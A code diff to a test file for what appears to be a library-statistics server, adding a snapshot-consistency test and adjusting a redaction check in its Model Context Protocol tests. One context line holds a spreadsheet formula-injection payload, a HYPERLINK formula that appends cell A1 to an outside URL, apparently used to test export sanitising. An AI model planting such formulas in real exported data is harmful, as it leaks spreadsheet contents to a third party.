@@ -2,7 +2,7 @@ import type { AddressInfo } from 'node:net'
 import { Client } from '@modelcontextprotocol/sdk/client/index.js'
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
 import { packLibrary } from '@shishu/pack-library'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
 import {
   COUNTY,
   OTHER_VILLAGE,
@@ -12,6 +12,7 @@ import {
   TOWN,
   VILLAGE,
 } from '../../test/server-fixture.ts'
+import { takeFigures } from '../exchange/figure-rows.ts'
 
 /** An indicator whose words a spreadsheet would compute. */
 const HOSTILE = '=HYPERLINK("http://example.com?"&A1,"到馆")'
@@ -57,6 +58,19 @@ describe('figures for other programs', () => {
     // Taken again as of the same moment, all is the same.
     const query = `indicators=loans-out,visitors&org=${TOWN},${VILLAGE}&period=2026-02,2026-03&asOf=${body.asOf}`
     expect((await get('librarian', `${FIGURES}.json?${query}`)).body).toEqual(body)
+  })
+
+  test('all of it is one reading, however many the places and periods', async () => {
+    const connect = vi.spyOn(on.book.pool, 'connect')
+    const snapshots = () => connect.mock.calls.length
+    const asked = { indicators: ['loans-out', 'visitors'], asOf: NOW, language: 'zh' } as const
+    await takeFigures(on.book, { ...asked, orgUnits: [VILLAGE], periods: ['2026-02'] })
+    const one = snapshots()
+    const periods = ['2026-01', '2026-02', '2026-03']
+    const { rows } = await takeFigures(on.book, { ...asked, orgUnits: [TOWN, VILLAGE, OTHER_VILLAGE], periods })
+    expect(rows).toHaveLength(18)
+    expect(snapshots() - one).toBe(one)
+    connect.mockRestore()
   })
 
   test('a report’s figures, and in English where that is asked for', async () => {
@@ -195,7 +209,7 @@ describe('the Model Context Protocol', () => {
     expect(text).not.toContain('张三丰')
     // Whoever may not read the ledger sees how many there are, and nothing of what they say.
     const shelves = await call('shelves', 'explain_figure', asked)
-    expect(shelves.data.inputs[0].contributions.map(({ summary }: { summary: string }) => summary)).toEqual(['', ''])
+    expect(shelves.data.inputs[0]).toMatchObject({ contributions: [], others: { count: 2, amount: 2 } })
   })
 
   test('lists what is due, without personal values', async () => {
